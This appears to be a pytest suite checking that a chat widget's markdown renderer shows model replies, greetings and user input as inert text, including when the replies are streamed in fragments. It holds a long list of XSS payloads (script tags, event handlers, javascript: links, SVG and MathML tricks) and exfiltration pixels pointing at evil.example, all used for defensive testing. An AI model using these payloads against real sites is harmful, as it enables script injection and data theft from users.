"""What a model writes never runs, never loads anything and never leaves the page by itself."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from tests.agents.widget.conftest import ChatScreen
from tests.upstream import Reply, Upstream

ATTACKS = [
    "<script>window.__xss = 1</script>",
    "<img src=x onerror='window.__xss = 1'>",
    "<svg onload=window.__xss=1><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.__xss = 1</script>"></iframe>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
    "<details open ontoggle=window.__xss=1>",
    '<a href="javascript:window.__xss=1">html link</a>',
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example/y) }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0; url=https://evil.example/">',
    '<base href="https://evil.example/"><form action="https://evil.example/"><button>go</button></form>',
    "[one](javascript:window.__xss=1) [two](JaVaScRiPt:window.__xss=1) [three](java&#115;cript:window.__xss=1)",
    "[tab](java\tscript:window.__xss=1) [vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:https://x/y)",
    "[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==) [own](/admin/logout) [rel](//evil.example/x)",
    "<javascript:window.__xss=1> <data:text/html,x> javascript:window.__xss=1 ftp://evil.example/x",
    "![pixel](https://evil.example/pixel.png?stolen=secret) ![](https://evil.example/p.gif)",
    "![data](data:image/png;base64,iVBORw0KGgo=) ![svg](data:image/svg+xml,<svg onload=window.__xss=1>)",
    "[![nested](https://evil.example/p.png)](https://evil.example/click) ![![a](https://evil.example/1)](https://evil.example/2)",
    '![x](https://evil.example/p.png "onerror=window.__xss=1") [t](https://evil.example "\\" onmouseover=\\"window.__xss=1")',
    "[ref][1] ![pic][2]\n\n[1]: javascript:window.__xss=1\n[2]: https://evil.example/ref.png",
    "&lt;img src=x onerror=window.__xss=1&gt; &#60;script&#62;window.__xss=1&#60;/script&#62; &amp;lt;script&amp;gt;",
    "`<img src=x onerror=window.__xss=1>`\n\n```html\n<script>window.__xss = 1</script>\n<img src=x onerror=window.__xss=1>\n```",
    '```"><img/src=x/onerror=window.__xss=1>\ncode\n```',
    "| a | b |\n|:-:|--:|\n| <img src=x onerror=window.__xss=1> | ![t](https://evil.example/t.png) |",
    "> - # <script>window.__xss=1</script>\n>   1. ![q](https://evil.example/q.png) **[b](javascript:window.__xss=1)**",
    '*[**<https://example.com/"onmouseover=window.__xss=1>**](javascript:window.__xss=1)*',
    "https://example.com/<script>window.__xss=1</script> https://example.com/'onclick='window.__xss=1",
    '<xmp><p title="</xmp><img src=x onerror=window.__xss=1>">',
    "\u202e<script>window.__xss=1</script>\u0000<\u0000script>",
]
FORBIDDEN = (
    "img, image, svg, math, script, style, link, meta, base, iframe, object, embed, form, input, video, audio, picture, source, "
    "template, [style], [id]"
)
INSPECT = """(root) => ({
  forbidden: [...root.querySelectorAll(%s)].map((element) => element.outerHTML),
  handlers: [...root.querySelectorAll("*")].flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith("on")),
  links: [...root.querySelectorAll("a")].map((link) => [new URL(link.href).protocol, link.rel, link.target]),
  xss: typeof window.__xss,
})""" % json.dumps(FORBIDDEN)  # noqa: UP031 - braces belong to the script
LINK = ("noopener noreferrer nofollow", "_blank")


def assert_harmless(found: dict[str, Any]) -> None:
    assert found["forbidden"] == []
    assert found["handlers"] == []
    assert found["xss"] == "undefined"
    for protocol, rel, target in found["links"]:
        assert protocol in ("http:", "https:", "mailto:")
        assert (rel, target) == LINK


def cut(text: str, *, size: int) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


@pytest.mark.parametrize("size", [1, 7])
def test_attacks_streamed_in_fragments_stay_text(
    open_chat: Callable[..., ChatScreen], make_chat_agent: Callable[..., Any], upstream: Upstream, size: int
) -> None:
    upstream.script(*(Reply(chunks=cut(attack, size=size)) for attack in ATTACKS))
    screen = open_chat(make_chat_agent(upstream, max_output_tokens=4000))
    screen.page.wait_for_load_state("networkidle")
    asked: list[str] = []
    screen.page.on("request", lambda request: asked.append(request.method))

    for number, attack in enumerate(ATTACKS, start=1):
        screen.say(f"Message {number}")
        screen.answers.nth(number - 1).wait_for()
        screen.wait_until_idle()
        assert screen.problem.count() == 0, attack

    assert_harmless(screen.log.evaluate(INSPECT))
    assert asked == ["POST"] * len(ATTACKS)  # the messages themselves and nothing else


def test_every_beginning_of_an_attack_is_harmless(
    open_chat: Callable[..., ChatScreen], make_chat_agent: Callable[..., Any], upstream: Upstream
) -> None:
    """As a stream shows it: each prefix rendered as if it were the whole."""
    screen = open_chat(make_chat_agent(upstream))
    beginnings = [attack[:length] for attack in ATTACKS for length in range(1, len(attack) + 1)]

    root = screen.page.evaluate_handle(
        """async (texts) => {
          const { renderBlocks, toNodes } = await import("/static/chat/markdown.js");
          const root = document.querySelector("[data-part=log]").appendChild(document.createElement("div"));
          for (const text of texts) for (const block of renderBlocks(text)) root.append(toNodes(block));
          return root;
        }""",
        beginnings,
    )

    assert_harmless(root.evaluate(INSPECT))


def test_a_greeting_is_data_too(open_chat: Callable[..., ChatScreen], make_chat_agent: Callable[..., Any], upstream: Upstream) -> None:
    screen = open_chat(
        make_chat_agent(upstream, greeting="Hello **you** ![p](https://evil.example/p.png) <img src=x onerror=window.__xss=1>")
    )

    screen.answer.locator("strong").wait_for()

    assert_harmless(screen.log.evaluate(INSPECT))
    assert "<img src=x onerror=window.__xss=1>" in screen.answer.inner_text()


def test_what_people_type_is_shown_word_for_word(
    open_chat: Callable[..., ChatScreen], make_chat_agent: Callable[..., Any], upstream: Upstream
) -> None:
    screen = open_chat(make_chat_agent(upstream))

    screen.say("<b>bold</b> **stars** <img src=x onerror=window.__xss=1>")
    screen.wait_until_idle()

    assert screen.said.inner_text() == "<b>bold</b> **stars** <img src=x onerror=window.__xss=1>"
    assert_harmless(screen.log.evaluate(INSPECT))


def test_markdown_becomes_structure(open_chat: Callable[..., ChatScreen], make_chat_agent: Callable[..., Any], upstream: Upstream) -> None:
    text = (
        "# Title\n\nSee [the docs](https://example.com/a?b=1&c=2), <mailto:a@example.com> or https://example.org/ok.\n\n"
        "- one\n- two\n\n3. three\n\n| L | R |\n|--|--:|\n| 1 | 2 |\n\n```python\nprint(1 < 2)\n```\n\n![A *fine* map](https://example.com/m.png)"
    )
    upstream.script(Reply(chunks=cut(text, size=5)))
    screen = open_chat(make_chat_agent(upstream))

    screen.say("Show me everything")
    screen.wait_until_idle()
    answer = screen.answer

    assert answer.locator("h3").inner_text() == "Title"
    assert answer.locator("a").evaluate_all("links => links.map(link => link.href)") == [
        "https://example.com/a?b=1&c=2",
        "mailto:a@example.com",
        "https://example.org/ok",
    ]
    assert answer.locator("li").all_inner_texts() == ["one", "two", "three"]
    assert answer.locator("ol").get_attribute("start") == "3"
    assert answer.locator("td").last.evaluate("cell => getComputedStyle(cell).textAlign") == "end"
    assert answer.locator("pre code").text_content() == "print(1 < 2)\n"
    assert answer.locator(".chat-image").inner_text() == "A fine map"
